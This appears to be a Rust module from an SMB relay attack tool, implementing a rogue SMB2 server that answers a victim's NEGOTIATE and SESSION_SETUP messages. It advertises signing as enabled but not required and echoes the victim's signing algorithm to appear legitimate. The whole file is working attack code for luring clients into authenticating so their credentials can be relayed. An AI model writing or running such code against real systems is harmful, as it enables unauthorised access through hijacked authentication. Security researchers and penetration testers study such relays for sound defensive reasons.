//! The relay's victim-facing side: a rogue SMB2 server that does not require signing, written
//! with the message codecs (it answers NEGOTIATE and SESSION_SETUP, nothing else).

use anyhow::bail;
use smb_core::codec::filetime_now;
use smb_core::header::{Command, Dialect, Header, NtStatus};
use smb_core::messages::build;
use smb_core::messages::error::ErrorResponse;
use smb_core::messages::negotiate::{Guid, HashAlgorithm, NegotiateContext, NegotiateResponse};
use smb_core::messages::session_setup::SessionSetupRequest;
use smb_core::policy::SIGNING_ENABLED;

use super::peer::Peer;
use super::random_bytes;
use crate::gss;

/// The next message, which must be a SESSION_SETUP request.
pub(crate) async fn recv_session_setup(
    victim: &mut Peer,
) -> anyhow::Result<(Header, SessionSetupRequest)> {
    let m = victim
        .recv()
        .await
        .map_err(|e| e.context("victim SESSION_SETUP"))?;
    let h = Header::parse(&m)?;
    if h.command != Command::SESSION_SETUP {
        bail!("victim sent {} instead of SESSION_SETUP", h.command);
    }
    Ok((h, SessionSetupRequest::read(&m)?))
}

/// An error response to `request` in session `session_id`.
pub(crate) async fn send_error(
    victim: &mut Peer,
    request: &Header,
    status: NtStatus,
    session_id: u64,
) -> anyhow::Result<()> {
    let mut h = request.response(status);
    h.session_id = session_id;
    victim.send(&build(&h, &ErrorResponse::default())).await
}

/// The relay's NEGOTIATE response to the victim: a server that does not require signing.
pub(crate) fn negotiate_response(
    dialect: Dialect,
    victim_contexts: &[NegotiateContext],
) -> NegotiateResponse {
    let mut contexts = Vec::new();
    if dialect == Dialect::SMB311 {
        contexts.push(NegotiateContext::PreauthIntegrity {
            hash_algorithms: vec![HashAlgorithm::SHA512],
            salt: random_bytes::<32>().to_vec(),
        });
        // Echo one signing algorithm the victim offered, as a server picks one.
        let offered = victim_contexts.iter().find_map(|c| match c {
            NegotiateContext::Signing { algorithms } => algorithms.first().copied(),
            _ => None,
        });
        if let Some(alg) = offered {
            contexts.push(NegotiateContext::Signing {
                algorithms: vec![alg],
            });
        }
    }
    NegotiateResponse {
        security_mode: SIGNING_ENABLED,
        dialect_revision: dialect,
        server_guid: Guid(random_bytes()),
        capabilities: 0,
        max_transact_size: 65536,
        max_read_size: 65536,
        max_write_size: 65536,
        system_time: filetime_now(),
        server_start_time: 0,
        security_buffer: gss::negotiate_hint(),
        contexts,
    }
}
